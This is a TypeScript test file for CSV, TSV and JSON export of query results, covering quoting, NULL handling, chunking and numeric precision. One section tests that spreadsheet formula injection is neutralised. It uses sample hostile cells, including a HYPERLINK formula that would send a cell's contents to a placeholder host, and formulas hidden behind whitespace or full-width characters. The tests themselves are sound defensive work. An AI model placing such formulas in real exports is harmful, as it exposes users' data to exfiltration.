import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { CSV, delimitedChunks, delimitedField, delimitedText, guardFormula, TSV } from '../../../src/core/grid/delimited';
import { jsonChunks, jsonKeys } from '../../../src/core/grid/jsonExport';
import type { ColumnKind } from '../../../src/core/grid/columnKinds';

/** A small RFC 4180 reader, to prove what the writer wrote reads back the same. */
function readCsv(text: string): (string | null)[][] {
  const rows: (string | null)[][] = [];
  let row: (string | null)[] = [];
  let i = 0;
  while (i < text.length) {
    let field: string | null;
    if (text[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        value += text.slice(i, quote);
        i = quote + 1;
        if (text[i] === '"') {
          value += '"';
          i++;
        } else break;
      }
      field = value;
    } else {
      let end = i;
      while (end < text.length && text[end] !== ',' && text[end] !== '\r') end++;
      field = end === i ? null : text.slice(i, end);
      i = end;
    }
    row.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    }
  }
  return rows;
}

describe('CSV export', () => {
  it('quotes fields holding commas, quotes or line breaks, and doubles the quotes', () => {
    assert.equal(delimitedField('plain', CSV), 'plain');
    assert.equal(delimitedField('a,b', CSV), '"a,b"');
    assert.equal(delimitedField('say "hi"', CSV), '"say ""hi"""');
    assert.equal(delimitedField('two\nlines', CSV), '"two\nlines"');
    assert.equal(delimitedField('cr\ronly', CSV), '"cr\ronly"');
  });

  it('writes NULL as nothing and an empty text as "" so they read back apart', () => {
    assert.equal(delimitedText({ names: ['a', 'b', 'c'], rows: [[null, '', 'x']] }, CSV), 'a,b,c\r\n,"",x\r\n');
  });

  it('writes the header and every row in the given order, with CRLF line ends', () => {
    const text = delimitedText({ names: ['id', 'note'], rows: [['1', 'x'], ['2', 'y'], ['3', 'z']], order: [2, 0, 1] }, CSV);
    assert.equal(text, 'id,note\r\n3,z\r\n1,x\r\n2,y\r\n');
  });

  it('reads back exactly what was written, for any cells', () => {
    const cell = fc.oneof(fc.constant(null), fc.string({ unit: fc.constantFrom('a', ',', '"', '\n', '\r', ' ', 'é', '\t') }));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 20 }), (rows) => {
        const text = delimitedText({ names: ['a', 'b', 'c'], rows }, CSV);
        const asSpreadsheetsRead = rows.map((row) => row.map((cell) => (cell === null || cell === '' ? cell : guardFormula(cell, 'text'))));
        assert.deepEqual(readCsv(text), [['a', 'b', 'c'], ...asSpreadsheetsRead]);
      }),
    );
  });

  it('comes in chunks of whole lines for large results', () => {
    const rows = Array.from({ length: 5000 }, (_, i) => [String(i), `line\n${i}`]);
    const chunks = Array.from(delimitedChunks({ names: ['n', 'text'], rows }, CSV));
    assert.ok(chunks.length > 2);
    assert.ok(chunks.every((chunk) => chunk.endsWith('\r\n')));
    assert.equal(readCsv(chunks.join('')).length, 5001);
  });
});

describe('copying as tab-separated text', () => {
  it('copies the chosen columns of the chosen rows, tabs between, newline after each row', () => {
    const rows = [['1', 'a', 'x'], ['2', 'b', 'y'], ['3', 'c', 'z']];
    assert.equal(delimitedText({ rows, order: [1, 2], columns: [1, 2] }, TSV), 'b\ty\nc\tz\n');
    assert.equal(delimitedText({ names: ['id', 'l', 'm'], rows, order: [0], columns: [0, 1] }, TSV), 'id\tl\n1\ta\n');
  });

  it('quotes cells with tabs, quotes or newlines so spreadsheets paste them whole', () => {
    assert.equal(delimitedText({ rows: [['a\tb', 'say "x"', 'two\nlines', 'x', null]] }, TSV), '"a\tb"\t"say ""x"""\t"two\nlines"\tx\t\n');
  });
});

describe('JSON export', () => {
  it('writes one object per row with the values as the service sent them', () => {
    const text = Array.from(jsonChunks({ names: ['id', 'name', 'big'], rows: [['1', 'Ann', '18446744073709551615'], ['2', null, '0']] })).join('');
    assert.deepEqual(JSON.parse(text), [
      { id: '1', name: 'Ann', big: '18446744073709551615' },
      { id: '2', name: null, big: '0' },
    ]);
    assert.match(text, /^\[\n {2}\{"id": "1", "name": "Ann", "big": "18446744073709551615"\},\n/);
  });

  it('keeps every column when names repeat, are empty or look special', () => {
    assert.deepEqual(jsonKeys(['a', 'a', '', 'a_2', 'a']), ['a', 'a_2', 'column_3', 'a_2_2', 'a_3']);
    const text = Array.from(jsonChunks({ names: ['__proto__', '2', 'x'], rows: [['p', 'two', 'x']] })).join('');
    const parsed = JSON.parse(text) as Record<string, string>[];
    assert.deepEqual(Object.keys(parsed[0]!).sort(), ['2', '__proto__', 'x']);
    assert.match(text, /"__proto__": "p", "2": "two", "x": "x"/, 'keys keep the column order');
  });

  it('writes an empty array for no rows, and survives any text', () => {
    assert.equal(Array.from(jsonChunks({ names: ['a'], rows: [] })).join(''), '[]\n');
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(fc.constant(null), fc.string()), { minLength: 2, maxLength: 2 }), { maxLength: 10 }), (rows) => {
        const parsed = JSON.parse(Array.from(jsonChunks({ names: ['a', 'b'], rows })).join('')) as { a: string | null; b: string | null }[];
        assert.deepEqual(parsed.map((o) => [o.a, o.b]), rows);
      }),
    );
  });
});

describe('CSV export is safe to open in a spreadsheet', () => {
  const csvOf = (rows: (string | null)[][], kinds?: ColumnKind[]): string => delimitedText({ names: ['a', 'b'], rows, kinds }, CSV);

  it('writes cells that a spreadsheet would run as a formula with a leading quote, so they open as text', () => {
    const text = csvOf([['=HYPERLINK("http://x.test/?"&A1,"Click")', '+1+2'], ['-2+3', '@SUM(A1)'], ['\t=1', '\r=1']]);
    assert.deepEqual(readCsv(text).slice(1), [
      ['\'=HYPERLINK("http://x.test/?"&A1,"Click")', "'+1+2"],
      ["'-2+3", "'@SUM(A1)"],
      ["'\t=1", "'\r=1"],
    ]);
  });

  it('keeps plain negative numbers of numeric columns as numbers, and guards the same text in a text column', () => {
    assert.equal(csvOf([['-12.5', '-12.5'], ['-3e5', '-1']], ['number', 'text']), 'a,b\r\n-12.5,\'-12.5\r\n-3e5,\'-1\r\n');
    assert.equal(csvOf([['-1+1', '=1']], ['number', 'number']), "a,b\r\n'-1+1,'=1\r\n", 'only a number stays unguarded in a numeric column');
  });

  it('still writes NULL as nothing and an empty text as "" next to guarded cells', () => {
    assert.deepEqual(readCsv(csvOf([[null, ''], ['=1', 'ok']])).slice(1), [[null, ''], ["'=1", 'ok']]);
  });

  it('guards formulas hidden behind white space, a line break, NBSP or U+3000, and full-width = + - @', () => {
    const hostile = ['\n=2+2', ' =1+1', '\u00a0=1+1', '\u3000=1+1', '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20SUM(A1)', '  \t+1'];
    for (const cell of hostile) assert.equal(guardFormula(cell, 'text'), `'${cell}`, JSON.stringify(cell));
    for (const cell of ['plain', 'a=1', ' x', '1-2', '\uff21']) assert.equal(guardFormula(cell, 'text'), cell, JSON.stringify(cell));
  });

  it('guards Copy and Copy with Names like the CSV export, keeping numbers of numeric columns as numbers', () => {
    assert.equal(delimitedText({ names: ['=name', 'n'], rows: [['=1+1', '-2'], [' @x', '-2']], kinds: ['text', 'number'] }, TSV), "'=name\tn\n'=1+1\t-2\n' @x\t-2\n");
  });

  it('copies NULL as nothing and an empty text as "", so a paste tells them apart', () => {
    assert.equal(delimitedText({ rows: [[null, '', 'x']] }, TSV), '\t""\tx\n');
  });
});

describe('JSON export of numeric columns', () => {
  const jsonOf = (rows: (string | null)[][], kinds: ColumnKind[]): unknown[] => JSON.parse(Array.from(jsonChunks({ names: ['n', 'm'], rows, kinds })).join('')) as unknown[];

  it('writes numbers of numeric columns as JSON numbers, and text columns as text', () => {
    assert.deepEqual(jsonOf([['42', '42'], ['-1.5', '007'], [null, null]], ['number', 'text']), [
      { n: 42, m: '42' },
      { n: -1.5, m: '007' },
      { n: null, m: null },
    ]);
  });

  it('keeps integers beyond 2^53 and over-precise decimals as text so no digit is lost', () => {
    assert.deepEqual(jsonOf([['9007199254740993', '18446744073709551615'], ['9007199254740991', '12345678901234567.891']], ['number', 'number']), [
      { n: '9007199254740993', m: '18446744073709551615' },
      { n: 9007199254740991, m: '12345678901234567.891' },
    ]);
  });

  it('keeps what JSON cannot write as a number (nan, inf) as text', () => {
    assert.deepEqual(jsonOf([['nan', '-inf']], ['number', 'number']), [{ n: 'nan', m: '-inf' }]);
  });
});
